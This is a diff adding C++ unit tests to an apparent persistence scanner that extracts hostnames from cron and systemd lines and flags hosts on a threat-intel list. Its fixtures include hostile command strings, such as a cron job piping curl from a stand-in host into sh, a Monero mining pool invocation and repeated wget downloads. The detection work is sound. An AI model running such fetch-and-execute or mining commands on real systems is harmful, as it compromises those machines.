@@ -511,6 +511,38 @@ TEST(Persistence, ClassifyLine) {
   EXPECT_FALSE(ClassifyLine("@reboot /var/tmp/.x/kworker", miners).empty());
 }
 
+TEST(Persistence, HostsInLine) {
+  EXPECT_EQ(HostsInLine("*/5 * * * * curl -fsSL http://Dl.Example.COM:8080/a.sh | sh"),
+            (std::vector<std::string>{"dl.example.com"}));
+  EXPECT_EQ(HostsInLine("ExecStart=/opt/x -o stratum+tcp://user@pool.minexmr.com:4444 -p x"),
+            (std::vector<std::string>{"pool.minexmr.com"}));
+  EXPECT_EQ(HostsInLine("wget 198.51.100.7/x; wget 198.51.100.7/y"),
+            (std::vector<std::string>{"198.51.100.7"}));
+  // Versions, file names with numeric suffixes and out-of-range dotted quads are not hosts.
+  EXPECT_TRUE(HostsInLine("run 1.2.3 and 999.1.1.1 then ./a.1 ..").empty());
+  EXPECT_EQ(HostsInLine(std::string(100, 'a') + ".com").size(), 0u);  // label over 63
+}
+
+TEST(Persistence, LinesNamingAnIntelHostAreFlagged) {
+  fs::path root = TempDir("persist-intel");
+  // Nothing here trips the built-in heuristics: only intel can tell the host is a dropper.
+  WriteFile(root / "etc/cron.d/update", "*/15 * * * * root /usr/bin/fetchcfg dl.badhost.example\n"
+                                        "0 3 * * * root /usr/bin/fetchcfg mirror.good.example\n");
+  PersistenceOptions po{.root = root.string()};
+  po.lookup_host = [](std::string_view h) -> std::optional<std::string> {
+    if (h == "dl.badhost.example") return std::string("test list: miner dropper");
+    return std::nullopt;
+  };
+  std::vector<std::string> errors;
+  auto hits = ScanPersistence(po, &errors);
+  ASSERT_EQ(hits.size(), 1u);
+  EXPECT_EQ(hits[0].line, 1u);
+  ASSERT_EQ(hits[0].reasons.size(), 1u);
+  EXPECT_EQ(hits[0].reasons[0], "names dl.badhost.example: test list: miner dropper");
+  EXPECT_TRUE(ScanPersistence(PersistenceOptions{.root = root.string()}, &errors).empty());
+  fs::remove_all(root);
+}
+
 TEST(Persistence, FixtureRootFindsEachAndCleanRootNothing) {
   fs::path root = TempDir("persist");
   WriteFile(root / "etc/crontab",
